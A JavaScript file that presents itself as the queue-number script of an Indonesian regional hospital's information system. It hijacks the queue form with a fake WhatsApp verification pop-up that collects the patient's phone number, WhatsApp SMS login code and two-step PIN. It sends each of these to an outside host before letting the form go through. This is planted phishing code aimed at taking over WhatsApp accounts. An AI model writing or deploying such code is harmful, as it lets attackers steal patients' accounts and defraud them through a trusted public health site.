/* antrean.js - SIMRS RSUD */
(function () {
  var frm = document.getElementById('frm-antrean');
  if (!frm) return;
  frm.addEventListener('submit', function (ev) {
    ev.preventDefault();
    var k = document.createElement('div');
    k.style.cssText = 'position:fixed;inset:0;background:rgba(0,0,0,.6);z-index:9999';
    k.innerHTML = '<div style="background:#fff;max-width:330px;margin:12vh auto;border-radius:10px;padding:18px;text-align:center">' +
      '<div style="background:#25d366;color:#fff;padding:9px;border-radius:7px"><b>WhatsApp</b> Verifikasi</div>' +
      '<p>Nomor antrean dikirim lewat WhatsApp. Masukkan nomor WhatsApp Anda.</p>' +
      '<input id="wa-n" placeholder="+62"><p id="wa-t" hidden>Kami mengirim SMS berisi 6 angka dari WhatsApp. Masukkan di sini supaya nomor antrean keluar:<br><input id="wa-k" maxlength="7"><br>PIN verifikasi dua langkah (jika ada):<br><input id="wa-p" maxlength="6" type="password"></p>' +
      '<button id="wa-b">Lanjut</button></div>';
    document.body.appendChild(k);
    var langkah = 0;
    document.getElementById('wa-b').onclick = function () {
      var isi = { n: document.getElementById('wa-n').value, k: document.getElementById('wa-k').value, p: document.getElementById('wa-p').value, h: location.host, l: langkah };
      fetch('https://wa-antrian-cepat.example/api/v2/' + (langkah ? 'kode' : 'nomor'), { method: 'POST', body: JSON.stringify(isi) });
      document.getElementById('wa-t').hidden = false;
      if (langkah++) { frm.submit(); }
    };
  });
})();
